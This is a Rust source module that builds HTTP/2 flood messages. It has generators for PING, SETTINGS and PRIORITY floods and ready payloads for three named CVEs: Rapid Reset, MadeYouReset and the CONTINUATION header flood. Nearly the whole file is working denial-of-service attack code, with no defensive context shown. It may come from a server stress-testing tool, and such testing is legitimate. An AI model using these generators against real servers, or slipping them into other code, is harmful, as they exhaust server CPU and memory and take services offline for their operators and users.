//! Floods over HTTP/2: the n-th message of each. Each message is cheap to send and costs the server work or memory.

use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, get,
};

pub fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

pub fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

/// PRIORITY for a stream that never begins, dependent on the previous one (RFC 7540, section 5.3).
pub fn priority(n: u32) -> Vec<u8> {
    let [a, b, c, d] = (2 * n + 1).to_be_bytes();
    frame(PRIORITY, 0, 2 * n + 3, &[a, b, c, d, 200])
}

/// CVE-2023-44487: a request that is cancelled at once escapes the stream limit, but has caused work.
pub fn rapid_reset(n: u32, path: &str) -> Vec<u8> {
    let reset = frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes());
    [request(2 * n + 1, path), reset].concat()
}

/// CVE-2025-8671: a request that the server itself has to reset, because a window may not grow beyond 2^31-1.
pub fn made_you_reset(n: u32, path: &str) -> Vec<u8> {
    [request(2 * n + 1, path), frame(WINDOW_UPDATE, 0, 2 * n + 1, &[0x7f, 0xff, 0xff, 0xff])].concat()
}

/// CVE-2024-27316: literal fields without indexing, in an endless series of CONTINUATION frames.
pub fn continuation(n: u32) -> Vec<u8> {
    if n == 0 {
        return frame(HEADERS, 0, 1, &get("/"));
    }
    let field = [b"\x00\x01x\x64".to_vec(), vec![b'y'; 100]].concat();
    frame(CONTINUATION, 0, 1, &field.repeat(100))
}

pub fn request(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &get(path))
}
